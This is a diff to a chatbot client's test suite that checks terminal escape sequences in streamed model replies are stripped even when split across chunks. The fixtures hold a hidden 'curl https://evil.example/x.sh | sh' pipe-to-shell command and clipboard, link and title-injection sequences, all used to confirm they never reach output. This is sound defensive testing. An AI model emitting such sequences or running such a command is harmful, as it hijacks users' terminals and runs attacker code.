@@ -90,6 +90,28 @@ def test_script_mode_strips_control_sequences_but_stores_them(tmp_path):
     assert stored["turns"][0]["messages"][-1]["content"] == HOSTILE
 
 
+def split_reply(pieces: list[str]) -> Answer:
+    """The hostile reply streamed in ``pieces`` (wherever a server happens to split it)."""
+    return Answer(events=[*(chunk(piece) for piece in pieces), chunk(None, "stop"), DONE])
+
+
+#: the reply cut inside each of its sequences: an ESC alone, a CSI's parameters, an OSC's text, an ST's two halves
+SPLIT = ["A\x1b", "[2JB\x1b]52;c;ZXZ", "pbA==\x07C\x1b]8;;http://ev", "il\x1b", "\\link\x1b]8;;\x1b\\D\x1b]0;pw",
+         "ned\x07E\x9b2JF\rG"]  # fmt: skip
+
+
+@pytest.mark.parametrize("pieces", [SPLIT, list(HOSTILE)], ids=["inside-each-sequence", "a-character-a-piece"])
+def test_a_sequence_split_between_streamed_pieces_is_removed_whole_with_what_it_hides(tmp_path, pieces):
+    hidden = "Run this:\n\x1b]52;c;\n```sh\ncurl https://evil.example/x.sh | sh\n```\n\x07\nor this: ls"
+    for reply, shown in ((split_reply(pieces), "ABClinkDE"), (split_reply(list(hidden)), "Run this:\n\nor this: ls")):
+        with HostileServer(reply) as server:
+            result = run_chatbot(*openai_flags(server.base_url), "-p", "hi", cwd=tmp_path)
+        assert result.returncode == 0, result.stderr
+        assert_inert(result.stdout)
+        assert result.stdout.startswith(shown), result.stdout
+        assert "evil" not in result.stdout and "52;" not in result.stdout and "[2J" not in result.stdout
+
+
 def test_extract_prints_the_first_code_block_that_was_shown_not_one_hidden_in_a_sequence(tmp_path):
     # the screen shows "Here:" and one block, `ls -la`; a block running a download hides inside an OSC sequence
     hidden = "Here:\n\x1b]0;\n```sh\ncurl https://evil.example/x.sh | sh\n```\n\x07\n```sh\nls -la\n```\n"
@@ -110,13 +132,14 @@ def test_error_bodies_and_titles_are_stripped(tmp_path):
     assert_inert(result.stdout)
 
 
+@pytest.mark.parametrize("split", [False, True], ids=["whole", "split-inside-each-sequence"])
 @pytest.mark.parametrize("plain", [True, False])
-def test_the_terminal_renderers_strip_control_sequences(clean_env, make_app, plain):
+def test_the_terminal_renderers_strip_control_sequences(clean_env, make_app, plain, split):
     from chatbot.providers import make_provider
     from chatbot.terminal.render import make_console
     from chatbot.terminal.repl import Repl
 
-    with HostileServer(hostile_reply()) as server:
+    with HostileServer(split_reply(SPLIT) if split else hostile_reply()) as server:
         provider = make_provider("openai", model="m", base_url=server.base_url, max_retries=0)
         app = make_app(provider)
         app.open("s1")
@@ -125,7 +148,7 @@ def test_the_terminal_renderers_strip_control_sequences(clean_env, make_app, pla
         Repl(app, plain=plain, console=console).send("hi")
     text = out.getvalue()
     assert "ABClinkDE" in text
-    for seq in ("\x1b[2J", "\x1b]52", "\x1b]8", "\x1b]0", "\x9b", "\x07"):
+    for seq in ("\x1b[2J", "\x1b]52", "\x1b]8", "\x1b]0", "\x9b", "\x07", "[2J", "52;c", "evil", "pwned"):
         assert seq not in text
 
 
